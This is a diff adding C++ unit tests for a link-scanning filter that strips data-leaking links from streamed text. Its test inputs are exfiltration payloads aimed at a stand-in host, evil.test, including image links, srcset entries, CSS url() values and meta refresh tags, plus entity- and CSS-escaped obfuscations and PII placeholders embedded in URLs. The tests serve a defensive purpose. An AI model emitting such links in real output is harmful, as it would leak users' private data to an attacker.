@@ -41,7 +41,21 @@ TEST(LinkScan, ImagesOfOthersLoadByThemselves) {
          "![a](https://docs.example.com/i.png) ![b](https://x.good.example/?d=" + data + ")"},
         {"![a](i.png) ![b](/i.png) ![c](#i) ![d](cid:part1)", "![a](i.png) ![b](/i.png) ![c](#i) ![d](cid:part1)"},
         {"![a][1]\n\n[1]: https://evil.test/i.png \"t\"", "![a][1]\n\n[1]: [link removed] \"t\""},
-        {"[a][1]\n\n[1]: https://fine.test/page", "[a][1]\n\n[1]: https://fine.test/page"},
+        {"[1]: https://evil.test/i\n\n![a][1]", "[1]: [link removed]\n\n![a][1]"},
+        {"[1]: https://docs.example.com/page\n\n[a][1]", ""},
+        {"![a `]` b](https://evil.test/i)", "![a `]` b]([link removed])"},
+        {"![a `[` b](https://evil.test/i)", "![a `[` b]([link removed])"},
+        {"![a <b c=']'> d](https://evil.test/i)", "![a <b c=']'> d]([link removed])"},
+        {"![a `]` b\r\n `]` c](https://evil.test/i)", "![a `]` b\r\n `]` c]([link removed])"},
+        {"![a `\n\n[b](https://fine.test/page)", ""},
+        {"![" + std::string(64, '[') + std::string(64, ']') + "](https://evil.test/i)",
+         "![" + std::string(64, '[') + std::string(64, ']') + "]([link removed])"},
+        {"![" + std::string(300, '[') + std::string(300, ']') + "](https://evil.test/i)",
+         "![" + std::string(300, '[') + std::string(300, ']') + "]([link removed])"},
+        {std::string(300, '[') + "a" + std::string(300, ']') + "(https://fine.test/page)", ""},
+        {"![x](/&#47;evil.test/?d=a)", "![x]([link removed])"},
+        {"![x](&#47;/evil.test/?d=a)", "![x]([link removed])"},
+        {"![x](<https:/\t/evil.test/?d=a>)", "![x](<[link removed]>)"},
         {"![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x]([link removed])"},
     });
 }
@@ -56,6 +70,21 @@ TEST(LinkScan, HtmlLoadsByItselfToo) {
         {"<a href=\"https://evil.test/?q=" + data + "\">x</a>", "<a href=\"[link removed]\">x</a>"},
         {"<link rel=stylesheet href=//evil.test/s.css>", "<link rel=stylesheet href=[link removed]>"},
         {"<div style=\"background:url(https://evil.test/b)\">", "<div style=\"background:url([link removed])\">"},
+        {"<img src=\"/&#47;evil.test/?d=a\">", "<img src=\"[link removed]\">"},
+        {"<img src=\"/&sol;evil.test/?d=a\">", "<img src=\"[link removed]\">"},
+        {"<i style=\"background:url('h\\74tps://evil.test/?d=a')\">", "<i style=\"background:url('[link removed]')\">"},
+        {"<i style=\"background:url(\\2f/evil.test/?d=a)\">", "<i style=\"background:url([link removed])\">"},
+        {"<i style=\"background:url('/\\2f evil.test/?d=a')\">", "<i style=\"background:url('[link removed]')\">"},
+        {"<i style=\"background:url('/\t/evil.test/?d=a')\">", "<i style=\"background:url('[link removed]')\">"},
+        {"<img srcset=\"a.png 1x, https://evil.test/i 2x\">", "<img srcset=\"a.png 1x, [link removed]\">"},
+        {"<img srcset='https://docs.example.com/a 1x,//evil.test/i, b.png'>",
+         "<img srcset='https://docs.example.com/a 1x,[link removed]'>"},
+        {"<img srcset=\"https://docs.example.com/a,\n /b 2x , https://docs.example.com/c,https://evil.test/i\">",
+         "<img srcset=\"https://docs.example.com/a,\n /b 2x , https://docs.example.com/c,[link removed]\">"},
+        {"<img srcset=,//evil.test/i> a, //evil.test/i", "<img srcset=,[link removed]> a, //evil.test/i"},
+        {"<img srcset=\"a.png 1x, b.png 2x\"> see, https://fine.test/page", ""},
+        {"<link rel=preload imagesrcset=\"a 1x, //evil.test/i 2x\">",
+         "<link rel=preload imagesrcset=\"a 1x, [link removed]\">"},
         {"<div style=\"background:url('//evil.test/b')\">", "<div style=\"background:url('[link removed]')\">"},
         {"<meta http-equiv=refresh content=\"0;url=https://evil.test/\">",
          "<meta http-equiv=refresh content=\"0;url=[link removed]\">"},
@@ -161,11 +190,35 @@ TEST(LinkScan, HoldsBackWhatMayBecomeALink) {
     }
 }
 
+/// What is put in a placeholder's place behind us goes where the address leads.
+TEST(LinkScan, PlaceholdersInAddressesAreData) {
+    const auto told_with = [](std::string_view text, bool placeholders) {
+        LeakStream stream(rules(), placeholders);
+        stream.feed(text, true);
+        return stream.told;
+    };
+    for (const std::string link : {"[a](https://evil.test/?d=[EMAIL_1])", "[a](https://evil.test/[CREDIT_CARD_12]/x)",
+                                   "[a](https://[EMAIL_1].evil.test/)", "[a](<//evil.test/[A_1]>)",
+                                   "[a](https://evil.test/\\[EMAIL_1])", "<a href='https://evil.test/?d=[EMAIL_1]'>",
+                                   "see https://evil.test/?d=[EMAIL_1]", "see https://evil.test/x)[EMAIL_1]"}) {
+        EXPECT_TRUE(told_with(link, true).contains("[link removed]")) << link;
+        EXPECT_FALSE(told_with(link, true).contains("_1")) << link;
+        EXPECT_EQ(told_with("\x1e" + link, true), "\x1e" + told_with(link, true)) << "in each text";
+    }
+    EXPECT_TRUE(told_with("[a](https://evil.test/?d=[EMAIL_1])", false).contains("EMAIL_1"));
+    for (const std::string fine :
+         {"[a](https://docs.example.com/?d=[EMAIL_1])", "[[EMAIL_1]](https://fine.test/page)",
+          "[a](https://fine.test/[1])", "[a](https://fine.test/) [EMAIL_1]", "[a](mailto:[EMAIL_1])"})
+        EXPECT_EQ(told_with(fine, true), fine);
+}
+
 std::vector<std::string> texts() {
     std::vector<std::string> all = {
         "![a [b\\] c](https://evil.test/(x)y \"t\") [l](//evil.test/?q=" + data + "), https://evil.test/]z?q=" + data,
         "```\n![](https://evil.test/)\n```\n<img src='htt\nps://evil.test/i'> www.evil.test/" + data + ").",
         "![x][1] [1]: <https://evil.test/a> [2](https:\\/\\/evil.test\\/a) (https://evil.test/" + data + "). é",
+        "![a `]`](//e.t/\xc3\xa9) <i srcset='a 1x, //e.t/\t2x, b' style=\"url('/\\2f e.t')\"> /&#47;x "
+        "![[[b](/&#47;e.t) <i src=/&#47;e",
         "~~~ ``` https://docs.example.com/?u=https://evil.test/" + data + "… [x](javascript:a(b)) url('//e.t/')",
     };
     for (const LabelledLinks& one : read_links()) all.push_back(one.text);
@@ -223,6 +276,8 @@ TEST(LinkScan, NoiseIsAlikeHoweverItIsCut) {
                                             " ",
                                             "src=",
                                             "href=",
+                                            "srcset=",
+                                            ",",
                                             "<a ",
                                             "<img ",
                                             "url(",
